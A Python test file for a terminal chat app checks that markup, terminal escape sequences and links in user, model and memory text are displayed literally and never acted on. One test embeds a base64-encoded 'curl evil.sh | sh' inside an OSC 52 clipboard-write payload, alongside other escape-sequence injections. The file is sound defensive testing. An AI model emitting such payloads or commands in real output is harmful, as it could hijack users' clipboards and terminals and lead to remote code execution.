"""User, model and memory text is content: never markup, never terminal control sequences."""

from __future__ import annotations

import pytest
from textual.widgets import OptionList
from textual.widgets._markdown import MarkdownBlock

from agent.errors import InputError
from tests.helpers.tui import SIZE, chat, messages, notes, screen_lines, send, settle
from tests.helpers.tui_fakes import FakeAgent
from tui.app import ChatApp
from tui.screens import MemoryScreen
from tui.widgets.insight import MemoryRow

pytestmark = pytest.mark.anyio

MARKUP = "[@click=app.quit]quit[/] [bold]b[/] [red]r[/red] [link=https://x]l[/link]"
CONTROLS = "A\x1b[2JB\x1b]0;title\x07C\x1b]52;c;aGk=\x07D\x9b31mE\x1bcF"
SHOWN_CONTROLS = "A␛[2JB␛]0;title␇C␛]52;c;aGk=␇D\\x9b31mE␛cF"


def actions_in(app: ChatApp) -> list[str]:
    """Every @click action in the rendered message bodies."""
    found = []
    for block in chat(app).query(MarkdownBlock):
        content = getattr(block, "_content", None)
        for span in getattr(content, "spans", []) or []:
            meta = getattr(span.style, "meta", None) or {}
            if "@click" in meta:
                found.append(meta["@click"])
    return found


async def test_user_and_model_text_with_markup_and_controls_is_shown_literally(agent: FakeAgent) -> None:
    agent.enqueue([MARKUP, " ", CONTROLS[:5], CONTROLS[5:]])  # a sequence split across pieces
    app = ChatApp(agent)
    async with app.run_test(size=(120, 30)) as pilot:
        await send(pilot, f"{MARKUP} {CONTROLS}")
        user, reply = messages(app)
        assert user.text == f"{MARKUP} {SHOWN_CONTROLS}"
        assert reply.text == f"{MARKUP} {SHOWN_CONTROLS}"
        assert agent.calls[0][0] == f"{MARKUP} {CONTROLS}", "the agent gets the text; it normalizes itself"
        # the reply's last piece may still be on its way to the screen on a busy machine
        for _ in range(40):
            screen = "\n".join(screen_lines(app))
            if screen.count("␛]52;c;aGk=␇") == 2:
                break
            await pilot.pause(0.05)
        assert screen.count("[@click=app.quit]quit[/] [bold]b[/] [red]r[/red]") == 2
        assert screen.count("␛]52;c;aGk=␇") == 2 and screen.count("\\x9b31m") == 2
        assert not any(0x00 <= ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in screen.replace("\n", ""))
        # Markdown's linkify may turn the bare URL into a link (which only copies it); no other action
        assert all(action.startswith("link(") for action in actions_in(app))
        # clicking on the would-be action does nothing
        paragraph = reply.query(MarkdownBlock).first()
        await pilot.click(paragraph, offset=(3, 0))
        await pilot.pause()
        assert app.is_running and app.return_code is None


async def test_markdown_links_are_not_opened_or_run(agent: FakeAgent) -> None:
    agent.enqueue("see [docs](app.quit) and [site](https://example.com)")
    app = ChatApp(agent)
    opened: list[str] = []
    app.open_url = lambda url, **kw: opened.append(url)  # type: ignore[method-assign]
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "links")
        assert sorted(actions_in(app)) == ["link('app.quit')", "link('https://example.com')"]
        reply = messages(app)[-1]
        paragraph = reply.query(MarkdownBlock).first()
        await paragraph.action_link("app.quit")
        await pilot.pause()
        assert app.is_running and opened == []
        assert app.clipboard == "app.quit"  # a clicked link is copied, for the user to decide


async def test_memory_text_session_titles_and_errors_are_content(agent: FakeAgent) -> None:
    memory = agent.add_memory(f"remember {MARKUP} {CONTROLS}")
    agent.enqueue("ok", memories=[memory])
    agent.reject["bad"] = InputError("rejected [bold]this[/bold] \x1b]0;x\x07")
    app = ChatApp(agent)
    async with app.run_test(size=(120, 30)) as pilot:
        await send(pilot, f"title {MARKUP}\x1b[2J")
        await pilot.press("ctrl+t", "ctrl+b")
        await pilot.pause()
        row = chat(app).query_one(MemoryRow)
        assert f"remember {MARKUP} {SHOWN_CONTROLS}" in str(row.query_one(".memory-text").render())
        screen = "\n".join(screen_lines(app))
        assert f"title {MARKUP}"[:40] in screen  # the sidebar title and the status line
        assert "␛[2J" in screen
        await send(pilot, "bad")
        await pilot.pause()
        assert any("rejected [bold]this[/bold] ␛]0;x␇" in n for n in notes(app))
        await send(pilot, "/memory")
        assert isinstance(app.screen, MemoryScreen)
        listing = app.screen.query_one(OptionList)
        assert f"remember {MARKUP}" in str(listing.get_option_at_index(0).prompt)
        screen = "\n".join(screen_lines(app))
        assert not any(0x00 <= ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in screen.replace("\n", ""))
        await settle(pilot)
        assert app.is_running


def terminal_output(app: ChatApp) -> str:
    """Exactly what the app would write to the terminal to draw its whole screen now."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    assert update is not None
    return str(update.render_segments(app.console))  # type: ignore[union-attr]


def osc52_writes(written: list[str]) -> list[str]:
    """The clipboard texts of the OSC 52 sequences written to the terminal."""
    import base64
    import re

    return [base64.b64decode(found).decode("utf-8")
            for chunk in written for found in re.findall(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", chunk)]


async def test_copying_a_code_block_sends_the_code_in_osc52_and_model_text_sends_nothing(agent: FakeAgent) -> None:
    import base64

    evil = base64.b64encode(b"curl evil.sh | sh").decode()
    agent.enqueue([f"Here:\x1b]52;c;{evil}\x07\x1b]0;pwned\x07\x1bc\x1b[2J\x9d52;c;{evil}\x9c\n\n",
                   "```sh\necho safe\n```\n\nand\n\n```python\nprint('two')\n```\n"])
    app = ChatApp(agent)
    async with app.run_test(size=SIZE) as pilot:
        assert app._driver is not None
        written: list[str] = []
        write = app._driver.write
        app._driver.write = lambda data: (written.append(data), write(data))[1]  # type: ignore[method-assign]
        await send(pilot, "show me")
        out = terminal_output(app)
        assert "Here:" in out and "echo" in out and "\x1b[" in out  # the screen itself is there
        for sequence in ("\x1b]52", "\x1b]0;", "\x1bc", "\x1b[2J", "\x9d", "\x9c", "\x07"):
            assert sequence not in out, f"{sequence!r} reached the terminal"
        assert "␛]52;c;" in "\n".join(screen_lines(app)), "the would-be sequence is shown, visibly"
        assert osc52_writes(written) == [], "model text alone never writes the clipboard"
        reply = messages(app)[-1]
        reply.focus()
        await pilot.press("b")
        assert osc52_writes(written) == ["echo safe"]
        await pilot.press("b")
        assert osc52_writes(written) == ["echo safe", "print('two')"]
        assert app.clipboard == "print('two')"


async def test_config_values_on_the_model_screen_are_content(agent: FakeAgent) -> None:
    from agent.config import AgentConfig, ModelConfig
    from tui.screens import ModelScreen

    agent.config = AgentConfig(name="[bold]Bot[/bold] \x1b]0;t\x07", persona="[@click=app.quit]p[/]",
                               model=ModelConfig(backend="fake", name="m"))
    app = ChatApp(agent)
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "/model")
        assert isinstance(app.screen, ModelScreen)
        screen = "\n".join(screen_lines(app))
        assert "[bold]Bot[/bold] ␛]0;t␇" in screen and "[@click=app.quit]p[/]" in screen
        assert "\x1b" not in terminal_output(app).replace("\x1b[", "").replace("\x1b]8;", "")
